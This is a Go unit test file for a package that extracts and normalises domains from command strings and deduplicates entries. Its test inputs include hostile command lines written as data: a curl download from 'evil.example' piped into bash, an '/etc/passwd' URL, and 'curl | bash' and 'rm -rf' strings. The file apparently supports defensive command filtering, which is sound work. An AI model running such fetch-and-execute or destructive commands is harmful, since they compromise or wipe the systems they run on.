package normalize

import (
	"fmt"
	"reflect"
	"strings"
	"testing"
)

func TestExtractDomains(t *testing.T) {
	cases := []struct {
		name string
		in   string
		want []string
	}{
		{name: "none", in: "echo hello", want: []string{}},
		{name: "pipe to shell", in: "curl https://evil.example/payload.sh | bash", want: []string{"evil.example"}},
		{name: "case and port", in: "HTTPS://API.Example.com:8443/x then http://api.example.com", want: []string{"api.example.com"}},
		{name: "quoted", in: `fetch("https://cdn.example.org/a.js")`, want: []string{"cdn.example.org"}},
		{name: "unparseable skipped", in: "https://a%zz.example/x http://[::1 https://ok.example", want: []string{"ok.example"}},
		{name: "empty host skipped", in: "http:///etc/passwd https://ok.example", want: []string{"ok.example"}},
		{name: "order kept", in: "http://b.example http://a.example http://b.example", want: []string{"b.example", "a.example"}},
	}

	for _, tc := range cases {
		got := ExtractDomains(tc.in)
		if !reflect.DeepEqual(got, tc.want) {
			t.Fatalf("%s: got %q, want %q", tc.name, got, tc.want)
		}
	}
}

func TestExtractDomainsCapsCandidates(t *testing.T) {
	var b strings.Builder
	for i := 0; i < MaxURLCandidates+5; i++ {
		fmt.Fprintf(&b, "https://host%d.example/ ", i)
	}
	if got := ExtractDomains(b.String()); len(got) != MaxURLCandidates {
		t.Fatalf("expected %d domains, got %d", MaxURLCandidates, len(got))
	}
}

func TestDomain(t *testing.T) {
	cases := map[string]string{
		"HTTPS://API.Example.com/v1": "api.example.com",
		"  example.org  ":            "example.org",
		"http://":                    "",
		"":                           "",
	}
	for in, want := range cases {
		if got := Domain(in); got != want {
			t.Fatalf("Domain(%q) = %q, want %q", in, got, want)
		}
	}
}

func TestUnique(t *testing.T) {
	got := Unique([]string{"curl | bash", "", "CURL | BASH", "rm -rf"})
	want := []string{"curl | bash", "rm -rf"}
	if !reflect.DeepEqual(got, want) {
		t.Fatalf("got %q, want %q", got, want)
	}
	if Unique(nil) == nil {
		t.Fatalf("expected non-nil empty slice")
	}
}
